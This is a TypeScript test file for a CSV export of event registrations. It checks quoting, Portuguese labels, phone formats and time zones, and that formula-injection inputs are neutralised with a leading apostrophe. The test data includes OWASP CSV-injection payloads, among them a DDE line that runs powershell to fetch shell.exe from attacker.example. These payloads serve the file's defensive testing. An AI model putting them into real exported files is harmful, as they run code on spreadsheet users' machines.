import { describe, expect, it } from 'vitest';
import { buildCsv, csvCell, csvExtraHeader, csvFileName, csvHeader } from './csv.ts';
import { newRegistrationState, type Registration } from './registration.schema.ts';

const timeZone = 'America/New_York';
/** The default event's: New York's clocks, United States phones. */
const event = { timeZone, phoneCountry: 'US' } as const;

function registration(overrides: Partial<Registration> = {}): Registration {
  return {
    id: '7f1c2a52-3c1e-4f43-9f0e-2b7d4c1a9e10',
    nome_completo: 'João Conceição',
    whatsapp: '+15085551234',
    email: 'joao@exemplo.com',
    nome_compania: 'Construtora Horizonte',
    levar_alguem: 'sim',
    confirmacao: 'agenda',
    ...newRegistrationState,
    certificate: null,
    status: 'confirmed',
    created_at: '2025-11-21T19:03:00.000Z',
    ...overrides,
  };
}

/** Splits the CSV text into rows of cells, undoing the quoting (cells never hold CRLF here). */
function parse(csv: string): string[][] {
  return csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => {
      const cells = line.match(/"(?:[^"]|"")*"/g) ?? [];
      expect(cells.join(',')).toBe(line);
      return cells.map((cell) => cell.slice(1, -1).replaceAll('""', '"'));
    });
}

describe('csvCell', () => {
  it('quotes every value, even plain text', () => {
    expect(csvCell('Maria da Silva')).toBe('"Maria da Silva"');
    expect(csvCell('')).toBe('""');
  });

  it('doubles quotes inside a value', () => {
    expect(csvCell('Construtora "Horizonte"')).toBe('"Construtora ""Horizonte"""');
  });

  it('keeps commas, semicolons and line breaks inside the quotes', () => {
    expect(csvCell('Silva, Souza; e Filhos')).toBe('"Silva, Souza; e Filhos"');
    expect(csvCell('linha 1\nlinha 2')).toBe('"linha 1\nlinha 2"');
  });

  it('leaves text that merely contains a trigger character alone', () => {
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('maria+eventos@exemplo.com')).toBe('"maria+eventos@exemplo.com"');
    expect(csvCell('Ana - Engenharia')).toBe('"Ana - Engenharia"');
  });

  // The OWASP CSV-injection cheat sheet: a cell that starts with one of these runs as a formula.
  describe('neutralises the OWASP CSV-injection examples with a leading apostrophe', () => {
    const examples: [input: string, cell: string][] = [
      ['=1+1', `"'=1+1"`],
      [`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
      [
        `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
        `"'=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0"`,
      ],
      ['+1+1', `"'+1+1"`],
      ['-2+3', `"'-2+3"`],
      ['@SUM(1+1)', `"'@SUM(1+1)"`],
      ['\t=1', `"'\t=1"`],
      ['\r=1', `"'\r=1"`],
      ['\n=1', `"'\n=1"`],
      ['=HYPERLINK("http://evil","x")', `"'=HYPERLINK(""http://evil"",""x"")"`],
      ['=1+2";=1+2', `"'=1+2"";=1+2"`],
      [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
      ['"=1"', `"""=1"""`],
      ['-', `"'-"`],
    ];
    it.each(examples)('%j becomes %s', (input, cell) => {
      expect(csvCell(input)).toBe(cell);
    });
  });
});

describe('buildCsv', () => {
  it('starts with a UTF-8 byte-order mark so Excel reads accents', () => {
    const csv = buildCsv([registration()], event);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect([...new TextEncoder().encode(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toContain('"João Conceição"');
  });

  it('has the spec header, in the spec order, then the certificate code', () => {
    const [header] = parse(buildCsv([], event));
    expect(header).toEqual([
      'Nome Completo',
      'WhatsApp',
      'Email',
      'Compania',
      'Levar Alguém',
      'Confirmação',
      'Status',
      'Data de Inscrição',
      'Código do Certificado',
    ]);
    expect(header).toEqual([...csvHeader, ...csvExtraHeader]);
  });

  it("writes the certificate's code; 'Revogado' once revoked; nothing when none", () => {
    const issued = { code: 'ABCD-1234-EFGH-5678', issued_at: '2025-12-06T21:00:00.000Z' };
    const rows = parse(
      buildCsv(
        [
          registration({ certificate: { ...issued, revoked_at: null } }),
          registration({ certificate: { ...issued, revoked_at: '2025-12-07T10:00:00.000Z' } }),
          registration(),
        ],
        event,
      ),
    );
    expect(rows.slice(1).map((row) => row[8])).toEqual(['ABCD-1234-EFGH-5678', 'Revogado', '']);
    expect(rows.slice(1).map((row) => row.length)).toEqual([9, 9, 9]);
  });

  it('keeps the spec columns when a ticket was sent: ticket_sent_at is not exported', () => {
    const sent = registration({ ticket_sent_at: '2025-11-22T15:00:00.000Z' });
    const [header, row] = parse(buildCsv([sent], event));
    expect(header).toEqual([...csvHeader, ...csvExtraHeader]);
    expect(row).toEqual(parse(buildCsv([registration()], event))[1]);
  });

  it('writes one row per registration, in the order given, with pt-BR labels', () => {
    const rows = parse(
      buildCsv(
        [
          registration(),
          registration({
            nome_completo: 'Maria da Silva',
            whatsapp: '+5511912345678',
            email: 'maria@exemplo.com.br',
            levar_alguem: 'nao',
            confirmacao: 'ok',
            status: 'pending',
            created_at: '2025-11-22T10:00:00.000Z',
          }),
          registration({ levar_alguem: null, confirmacao: null }),
        ],
        event,
      ),
    );
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      'João Conceição',
      '(508) 555-1234',
      'joao@exemplo.com',
      'Construtora Horizonte',
      'Sim',
      'Já coloquei na agenda',
      'Confirmado',
      '21/11/2025, 14:03',
      '',
    ]);
    expect(rows[2]).toEqual([
      'Maria da Silva',
      `'+55 11 91234 5678`,
      'maria@exemplo.com.br',
      'Construtora Horizonte',
      'Não',
      'Ok',
      'Pendente',
      '22/11/2025, 05:00',
      '',
    ]);
    expect(rows[3]?.slice(4, 6)).toEqual(['', '']);
  });

  it('shows the date and time in pt-BR, in the event time zone', () => {
    const [, row] = parse(
      buildCsv([registration({ created_at: '2025-12-06T12:30:00.000Z' })], {
        timeZone: 'America/Sao_Paulo',
        phoneCountry: 'BR' as const,
      }),
    );
    expect(row?.[7]).toBe('06/12/2025, 09:30');
  });

  it('ends every line with CRLF', () => {
    const csv = buildCsv([registration()], event);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('writes the phone the way the event’s phone country does; others in international form, behind the apostrophe', () => {
    const brazil = { timeZone: 'America/Recife', phoneCountry: 'BR' } as const;
    const rows = parse(
      buildCsv(
        [registration({ whatsapp: '+5581998765432' }), registration({ whatsapp: '+12135550100' })],
        brazil,
      ),
    );
    expect(rows[1]?.[1]).toBe('(81) 99876-5432');
    expect(rows[2]?.[1]).toBe(`'+1 213 555 0100`);
    const [, us] = parse(buildCsv([registration({ whatsapp: '+15085551234' })], event));
    expect(us?.[1]).toBe('(508) 555-1234');
  });

  it('neutralises a phone or an e-mail that starts with a trigger', () => {
    expect(csvCell('+1 508-555-1234')).toBe(`"'+1 508-555-1234"`);
    const [, row] = parse(
      buildCsv(
        [
          registration({
            whatsapp: '=1+1',
            email: '@SUM(1+1)@exemplo.com',
            nome_completo: '-2+3',
            nome_compania: '=HYPERLINK("http://evil","x")',
          }),
        ],
        event,
      ),
    );
    expect(row?.slice(0, 4)).toEqual([
      `'-2+3`,
      `'=1+1`,
      `'@SUM(1+1)@exemplo.com`,
      `'=HYPERLINK("http://evil","x")`,
    ]);
  });

  it("adds a column per question, headed by its label, a removed one's answers kept", () => {
    const option = (id: string, label: string, archived = false) => ({ id, label, archived });
    const asked = { help: '', required: false, options: [], max: null, archived: false };
    const questions = [
      { ...asked, id: 'cargo', kind: 'text', label: 'Cargo' },
      { ...asked, id: 'bio', kind: 'long_text', label: 'Sobre' },
      {
        ...asked,
        id: 'tam',
        kind: 'choice',
        label: 'Tamanho',
        options: [option('p', 'P'), option('m', 'M', true)],
      },
      {
        ...asked,
        id: 'temas',
        kind: 'choices',
        label: 'Temas',
        options: [option('web', 'Web'), option('ia', 'IA')],
      },
      { ...asked, id: 'veg', kind: 'yes_no', label: 'Vegetariano?', archived: true },
    ] as const;
    const respostas = { cargo: '=Dev', bio: 'a\nb', tam: 'm', temas: ['web', 'ia'], veg: false };
    const rows = parse(
      buildCsv([registration({ respostas }), registration()], {
        ...event,
        questions: questions.map((q) => ({ ...q, options: [...q.options] })),
      }),
    );
    expect(rows[0]).toEqual([
      ...csvHeader,
      'Cargo',
      'Sobre',
      'Tamanho',
      'Temas',
      'Vegetariano?',
      ...csvExtraHeader,
    ]);
    expect(rows[1]?.slice(csvHeader.length)).toEqual(["'=Dev", 'a\nb', 'M', 'Web; IA', 'Não', '']);
    expect(rows[2]?.slice(csvHeader.length)).toEqual(['', '', '', '', '', '']);
  });

  it('leaves no cell of a hostile row starting with a formula trigger', () => {
    const hostile = registration({
      nome_completo: "=cmd|' /C calc'!A0",
      nome_compania: '\t=1',
      email: '+evil@exemplo.com',
    });
    for (const row of parse(buildCsv([hostile], event))) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });
});

describe('csvFileName', () => {
  it('is the prefix plus the local ISO date, with a .csv extension', () => {
    expect(csvFileName('inscricoes_build_safe_', new Date(2025, 10, 21, 23, 59))).toBe(
      'inscricoes_build_safe_2025-11-21.csv',
    );
    expect(csvFileName('inscricoes_build_safe_', new Date(2025, 0, 5, 0, 0))).toBe(
      'inscricoes_build_safe_2025-01-05.csv',
    );
  });
});
